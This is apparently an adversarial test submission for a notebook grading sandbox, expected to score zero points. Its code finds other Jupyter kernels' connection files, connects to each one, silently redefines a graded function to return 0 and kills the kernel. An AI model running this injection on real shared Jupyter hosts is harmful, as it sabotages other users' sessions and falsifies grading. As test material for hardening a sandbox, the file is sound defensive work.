"""Reads other kernels' connection files and sends them cells of its own.

must: 0 points
needs: sandbox
"""

# ruff: noqa

# %% before double
import glob
import os

from jupyter_client import BlockingKernelClient

own = get_ipython().config.IPKernelApp.connection_file
for path in glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")) + glob.glob("/tmp/**/*.json"):
    if path != own:
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("double = lambda x: 0; import os; os._exit(0)", silent=True)
            client.stop_channels()
        except Exception as error:
            print(type(error).__name__)
